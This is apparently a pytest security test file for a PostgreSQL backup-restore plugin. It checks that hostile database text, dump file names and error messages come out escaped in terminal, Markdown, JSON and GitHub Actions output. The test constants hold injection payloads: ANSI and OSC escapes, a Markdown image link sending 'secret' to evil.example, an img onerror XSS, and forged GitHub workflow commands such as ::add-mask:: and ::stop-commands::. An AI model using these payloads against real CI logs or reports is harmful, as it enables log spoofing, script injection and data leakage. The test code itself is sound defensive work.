"""Class 9: text from the database cannot escape its place in the reports. A value with a backtick
fence, a heading, an image link and HTML stays inside the Markdown code block; an ANSI escape or a
carriage return reaches the terminal written out, not obeyed; JSON keeps the value as data."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from pathlib import Path

import psycopg
import pytest

from pytest_liftbackup.server.databases import conninfo_from
from pytest_liftbackup.server.throwaway import ThrowawayServer
from tests.conftest import PLAIN_NAME, Dumps, Scratch, write_bytes
from tests.helpers import output, run
from tests.lift_simulator import build
from tests.security.conftest import TRAILER, hostile_plain

# In COPY text format: \n is a newline, \033 an escape character (octal), \r a carriage return.
HOSTILE = rb"x\033[2J\r\n````\n# Owned\n![x](https://evil.example/?q=secret)\n<img src=x onerror=alert(1)>"
CHECK = """\
schema: lift_simulator
checks:
  no_odd_names:
    sql: SELECT system_key, display_name FROM lift_system WHERE display_name LIKE 'x%'
"""


def test_database_text_stays_inside_its_code_block(
    dumps: Dumps, pytester: pytest.Pytester, scratch: Scratch, tmp_path: Path
) -> None:
    dump = write_bytes(
        tmp_path / PLAIN_NAME,
        dumps.plain.read_bytes().replace(b"\tLift system 1\t", b"\t" + HOSTILE + b"\t", 1),
    )
    (pytester.path / "checks").mkdir()
    (pytester.path / "checks" / "odd.yml").write_text(CHECK)
    result = run(
        pytester, f"--liftbackup={dump}", "--liftbackup-markdown=summary.md", "--liftbackup-report=v.json"
    )
    text = output(result)
    result.assert_outcomes(passed=1, failed=1)
    assert "\x1b" not in text and "\r" not in text
    assert r"display_name=x\x1b[2J\r\n````\n# Owned" in text

    markdown = (pytester.path / "summary.md").read_text()
    fences = re.findall(r"^(`{3,})text$", markdown, re.MULTILINE)
    assert fences and all(len(f) > 4 for f in fences)  # longer than the value's own ```` run
    outside = re.sub(r"^(`{5,})text\n.*?^\1$", "", markdown, flags=re.MULTILINE | re.DOTALL)
    assert "evil.example" not in outside and "<img" not in outside and "# Owned" not in outside
    assert "\x1b" not in markdown

    record = json.loads((pytester.path / "v.json").read_text())
    sample = record["dumps"][0]["checks"][0]["sample"][0]
    assert sample["display_name"].startswith("x\x1b[2J\r\n````\n# Owned\n![x](https://evil.example/")


# Class 9b: no text from a dump or a file name starts a line of its own or a GitHub workflow command.
# GitHub's runner obeys `::name ...::` at the start of a line (after spaces) and `##[name]` anywhere in
# one, and reads a carriage return as a line end, as a terminal does.
SHIPPED = Path(__file__).resolve().parents[2] / "checks" / "lift_simulator.yml"
OURS = ("::error title=restore of ", "::error file=checks/", "::warning file=checks/")


def workflow_commands(text: str) -> list[str]:
    """The lines of `text` GitHub's runner would obey as workflow commands, but our own annotations."""
    lines = re.split(r"\r\n|\r|\n", text)
    obeyed = [line for line in lines if line.lstrip().startswith("::") or "##[" in line]
    return [line for line in obeyed if not line.startswith(OURS)]


def in_github_actions(monkeypatch: pytest.MonkeyPatch, pytester: pytest.Pytester) -> None:
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    monkeypatch.setenv("GITHUB_WORKSPACE", str(pytester.path))


def edited(dump: Path, target: Path, *swaps: tuple[bytes, bytes]) -> Path:
    """The real dump with each `old` replaced once by `new`."""
    raw = dump.read_bytes()
    for old, new in swaps:
        assert raw.count(old) >= 1, old
        raw = raw.replace(old, new, 1)
    return write_bytes(target, raw)


RAISING = (
    "DO $$ BEGIN RAISE EXCEPTION E'boom\\n::error file=x::pwned\\r::stop-commands::tok' "
    "USING DETAIL = E'\\n::add-mask::x'; END $$;"
)
SHOWN_RAISE = r"_fkey): boom\n::error file=x::pwned\r::stop-commands::tok"


def raising_dump(dumps: Dumps, folder: Path) -> Path:
    """The real dump, with a DO block at its end whose exception quotes workflow commands."""
    return hostile_plain(dumps.plain, folder / PLAIN_NAME, RAISING)


def command(*args: str | Path) -> subprocess.CompletedProcess[str]:
    """`liftbackup ...` as a CI job runs it."""
    return subprocess.run(
        [sys.executable, "-m", "pytest_liftbackup", *map(str, args)],
        capture_output=True,
        text=True,
        env={**os.environ, "GITHUB_ACTIONS": "true"},
    )


def test_a_restore_error_quoting_the_dump_stays_on_its_line(
    dumps: Dumps, pytester: pytest.Pytester, scratch: Scratch, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    dump = raising_dump(dumps, tmp_path)
    in_github_actions(monkeypatch, pytester)
    result = run(pytester, f"--liftbackup={dump}")
    text = output(result)
    result.assert_outcomes(failed=1)
    assert workflow_commands(text) == []
    assert SHOWN_RAISE in text
    assert r"  DETAIL: \n::add-mask::x" in text
    annotation = [line for line in text.splitlines() if line.startswith("::error title=restore of ")]
    assert len(annotation) == 1 and r"boom\n::error file=x::pwned" in annotation[0]


def test_a_check_error_quoting_a_data_value_stays_on_its_line(
    dumps: Dumps, pytester: pytest.Pytester, scratch: Scratch, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # In COPY text \\n is a backslash and an n: the JSON string's own escape, a newline once ->> reads it.
    dump = edited(
        dumps.plain, tmp_path / PLAIN_NAME, (b'"minFloor": 0', rb'"minFloor": "1\\n::error file=x::pwned"')
    )
    (pytester.path / "checks").mkdir()
    (pytester.path / "checks" / "lift_simulator.yml").write_text(SHIPPED.read_text())
    in_github_actions(monkeypatch, pytester)
    result = run(pytester, f"--liftbackup={dump}", "-k", "config_floor_range")
    text = output(result)
    result.assert_outcomes(errors=1)
    assert workflow_commands(text) == []
    assert r'invalid input syntax for type numeric: "1\n::error file=x::pwned"' in text
    assert any(line.startswith("::error file=checks/lift_simulator.yml,line=") for line in text.splitlines())


def test_a_flyway_description_stays_on_its_line(
    dumps: Dumps, pytester: pytest.Pytester, scratch: Scratch, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    migration = b"2\tmigrate floor range config\tSQL\tV2__migrate_floor_range_config.sql\t"
    failed = rb"2\tmigrate floor range config\n::add-mask::secret\tSQL\tV2__migrate_floor_range_config.sql\t"
    raw = dumps.plain.read_bytes()
    start = raw.index(migration)
    end = raw.index(b"\n", start)
    row = raw[start:end].replace(migration, failed.replace(rb"\t", b"\t")).rsplit(b"\t", 1)[0] + b"\tf"
    dump = write_bytes(tmp_path / PLAIN_NAME, raw[:start] + row + raw[end:])
    (pytester.path / "checks").mkdir()
    (pytester.path / "checks" / "lift_simulator.yml").write_text(SHIPPED.read_text())
    in_github_actions(monkeypatch, pytester)
    result = run(pytester, f"--liftbackup={dump}", "-k", "flyway_no_failed")
    text = output(result)
    result.assert_outcomes(failed=1)
    assert workflow_commands(text) == []
    assert r"Detected failed migration to version 2 (migrate floor range config\n::add-mask::secret)" in text


OSC = b"\x1b]0;pwned\x07"  # sets the terminal's title; in a role name, as pg_dump quotes it


def test_a_passing_run_prints_no_escape_from_its_warnings_and_roles(
    dumps: Dumps, pytester: pytest.Pytester, scratch: Scratch, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    dump = edited(
        dumps.plain,
        tmp_path / PLAIN_NAME,
        (
            b"ALTER TABLE lift_simulator.flyway_schema_history OWNER TO lift_admin;",
            b'ALTER TABLE lift_simulator.flyway_schema_history OWNER TO "ev' + OSC + b'il";',
        ),
        (
            TRAILER,
            b"\nDO $$ BEGIN RAISE WARNING E'careful\\033[2J\\n::error file=x::pwned ##[add-mask]y'; END $$;\n"
            + TRAILER,
        ),
    )
    in_github_actions(monkeypatch, pytester)
    result = run(pytester, f"--liftbackup={dump}")
    text = output(result)
    result.assert_outcomes(passed=1)
    assert "\x1b" not in text and "\x07" not in text
    assert workflow_commands(text) == []
    assert r"  roles:    created NOLOGIN for ownership: ev\x1b]0;pwned\x07il, lift_admin" in text
    assert r"  warning:  WARNING: careful\x1b[2J\n::error file=x::pwned ##\x5badd-mask]y" in text


def test_the_pg_dump_version_of_a_plain_header_is_written_out(
    dumps: Dumps, pytester: pytest.Pytester, scratch: Scratch, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    raw = dumps.plain.read_bytes()
    version = re.search(rb"^-- Dumped by pg_dump version (\S+)", raw, re.MULTILINE)
    assert version is not None
    hostile = version.group(1) + b"\x1b[2J##[error]pwned"
    dump = edited(
        dumps.plain,
        tmp_path / PLAIN_NAME,
        (version.group(0), version.group(0) + hostile[len(version.group(1)) :]),
    )
    in_github_actions(monkeypatch, pytester)
    result = run(pytester, f"--liftbackup={dump}")
    text = output(result)
    result.assert_outcomes(passed=1)
    assert "\x1b" not in text and workflow_commands(text) == []
    shown_version = version.group(1).decode() + r"\x1b[2J##\x5berror]pwned"
    assert f"pg_dump {shown_version}, server " in text  # the collection header
    assert f"  versions: pg_dump {shown_version}, source server " in text  # the summary


HOSTILE_DATABASE = b'"lift\n::stop-commands::x"'


def test_the_database_name_of_create_database_is_written_out(
    source: build.SourceDatabase,
    source_server: ThrowawayServer,
    pytester: pytest.Pytester,
    scratch: Scratch,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """pg_dump refuses to dump a database whose name holds a newline: its -C output of another is edited."""
    admin = conninfo_from(source_server.admin_conninfo())
    with psycopg.connect(admin, autocommit=True) as conn:
        conn.execute("DROP DATABASE IF EXISTS lift_named")
        conn.execute("CREATE DATABASE lift_named")
    created = source.dump(tmp_path / "created.sql", "-F", "p", "-C", database="lift_named")
    dump = edited(
        created,
        tmp_path / "named.sql",
        (b"CREATE DATABASE lift_named ", b"CREATE DATABASE " + HOSTILE_DATABASE + b" "),
    )
    in_github_actions(monkeypatch, pytester)
    result = run(pytester, f"--liftbackup={dump}")
    text = output(result)
    assert workflow_commands(text) == []
    assert r"database lift\n::stop-commands::x" in text


HOSTILE_FILE = "lift\x1b[2K\x1b[1A##[error]pwned"  # erases the line above; an old-style workflow command


def test_a_dump_file_name_is_written_out_in_the_header_progress_and_summary(
    dumps: Dumps, pytester: pytest.Pytester, scratch: Scratch, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # No `[`: the option reads it as a glob.
    name = "::error file=x::pwned\x1b]0;t\x07\n::add-mask::y.sql"  # the summary starts a line with it
    # A pause before each table's rows: long enough for the progress line, which names the file too.
    slow = dumps.plain.read_bytes().replace(b"\nCOPY ", b"\nSELECT pg_sleep(0.7);\nCOPY ")
    dump = write_bytes(tmp_path / name, slow)
    monkeypatch.setenv("CI", "true")
    in_github_actions(monkeypatch, pytester)
    result = run(pytester, f"--liftbackup={dump}")
    text = output(result)
    result.assert_outcomes(passed=1)
    shown_name = r"::error file=x::pwned\x1b]0;t\x07\n::add-mask::y.sql"
    assert f"  {tmp_path}/{shown_name} [given]: plain, " in text  # the collection header
    assert f"\n\\x3a{shown_name[1:]}\n  file:     {tmp_path}/{shown_name}\n" in text  # the summary
    assert f"\nliftbackup: restoring {shown_name}: " in text  # the progress line
    assert "\x1b" not in text and workflow_commands(text) == []


def test_liftbackup_status_writes_out_file_names(
    dumps: Dumps, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = tmp_path / "backups"
    folder.mkdir()
    write_bytes(folder / f"{HOSTILE_FILE}_backup_20260120_080000.sql", dumps.plain.read_bytes())
    done = command("status", folder)
    assert done.returncode == 1, done.stderr  # too old: unhealthy
    shown_name = r"lift\x1b[2K\x1b[1A##\x5berror]pwned"
    assert f"  {shown_name}_backup_20260120_080000.sql" in done.stdout
    assert done.stdout.splitlines()[-1].startswith(f"UNHEALTHY {shown_name}: the newest backup is ")
    assert "\x1b" not in done.stdout and workflow_commands(done.stdout) == []
    as_json = command("status", folder, "--json").stdout
    assert workflow_commands(as_json) == [] and "##\\u005berror]pwned" in as_json
    assert json.loads(as_json)["backups"][0]["file"].endswith(HOSTILE_FILE + "_backup_20260120_080000.sql")


@pytest.mark.parametrize(
    ("text", "outside", "inside"),
    [
        ("a\nb\rc\x1bd", r"a\nb\rc\x1bd", r"a\nb\rc\x1bd"),
        ("\t ::error::x", "\t ::error::x", "\t \\x3a:error::x"),  # the runner trims leading white space
        ("x ##[add-mask]y", "x ##[add-mask]y", "x ##\\x5badd-mask]y"),
        ("x::error::y", "x::error::y", "x::error::y"),  # not at a line's start: no command
    ],
)
def test_shown_text_is_one_line_and_no_workflow_command(
    text: str, outside: str, inside: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    from pytest_liftbackup._safe_text import shown

    assert shown(text) == outside
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    assert shown(text) == inside and shown(inside) == inside  # once is enough: shown text stays as it is


def test_liftbackup_verify_keeps_each_line_of_a_restore_error_one_line(dumps: Dumps, tmp_path: Path) -> None:
    dump = raising_dump(dumps, tmp_path)
    done = command("verify", dump)
    assert done.returncode == 1, done.stderr
    lines = done.stdout.splitlines()
    assert lines[0] == f"FAILED {dump}: restore failed; checks: no checks"
    assert lines[1].startswith(f"  {dump}:") and lines[1].endswith(SHOWN_RAISE)
    assert lines[2:] == [
        "    at: line 990 (FK CONSTRAINT lift_simulator.simulation_run simulation_run_version_id_fkey)",
        "    statement: " + RAISING,
        r"    DETAIL: \n::add-mask::x",
        "    CONTEXT: PL/pgSQL function inline_code_block line 1 at RAISE",
        "    SQLSTATE: P0001",
    ]
    assert workflow_commands(done.stdout + done.stderr) == []
